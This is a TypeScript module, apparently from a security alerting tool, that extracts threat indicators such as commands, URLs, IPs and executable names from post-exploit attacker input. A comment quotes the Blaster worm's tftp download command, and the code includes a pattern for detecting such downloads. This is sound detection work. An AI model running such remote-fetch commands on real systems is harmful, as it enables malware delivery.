// Indicators from what an attacker typed after an exploit (Blaster: `tftp -i <ip> GET msblast.exe`
// on the bind shell at 4444): the command, hosts, URLs and file names, as STIX-like typed values.

import type { Indicator } from '../model/alert.js';

const MAX_COMMAND_CHARS = 512;
const IPV4 = /\b(?:25[0-5]|2[0-4]\d|1?\d?\d)(?:\.(?:25[0-5]|2[0-4]\d|1?\d?\d)){3}\b/g;
const URL = /\b(?:https?|ftp|tftp):\/\/[^\s"'<>]+/gi;
// A run of file-name characters; greedy with nothing after it, so the engine never backtracks.
const NAME_RUN = /[\w.-]+/g;
const FILE_EXTENSIONS = new Set(['exe', 'com', 'scr', 'bat', 'cmd', 'dll', 'vbs', 'ps1', 'pif']);
const TFTP_GET = /\btftp(?:\.exe)?\s+(?:-i\s+)?(\S+)\s+get\s+(\S+)/i;

export function extractIndicators(text: string): Indicator[] {
  const out: Indicator[] = [];
  const seen = new Set<string>();
  const add = (type: string, value: string): void => {
    const k = `${type}\0${value}`;
    if (!seen.has(k)) {
      seen.add(k);
      out.push({ type, value });
    }
  };
  const command = text.replace(/[\r\n]+/g, ' ').trim().slice(0, MAX_COMMAND_CHARS);
  if (command) add('command', command);
  const tftp = TFTP_GET.exec(text);
  if (tftp) add('url', `tftp://${tftp[1]}/${tftp[2]}`);
  for (const m of text.matchAll(URL)) add('url', m[0]);
  for (const m of text.matchAll(IPV4)) add('ipv4-addr', m[0]);
  for (const m of text.matchAll(NAME_RUN)) {
    const name = fileNameIn(m[0]);
    if (name) add('file-name', name);
  }
  return out;
}

const isWordChar = (c: number): boolean => (c >= 0x30 && c <= 0x39) || (c >= 0x41 && c <= 0x5a) || (c >= 0x61 && c <= 0x7a) || c === 0x5f;

/** The file name in one run of [\w.-] characters, as `\b[\w.-]+\.(exe|...)\b` found it: from the
 * first word character to the last known extension that ends at a non-word character. That regex
 * retried from every word boundary (every `.` or `-`) and was quadratic on `a.a.a.a...`; one backward
 * pass over the run gives the same match in linear time. */
function fileNameIn(run: string): string | undefined {
  let start = 0;
  while (start < run.length && !isWordChar(run.charCodeAt(start))) start++;
  for (let dot = run.length - 4; dot > start; dot--) {
    if (run.charCodeAt(dot) !== 0x2e) continue;
    if (dot + 4 < run.length && isWordChar(run.charCodeAt(dot + 4))) continue;
    if (FILE_EXTENSIONS.has(run.slice(dot + 1, dot + 4).toLowerCase())) return run.slice(start, dot + 4);
  }
  return undefined;
}
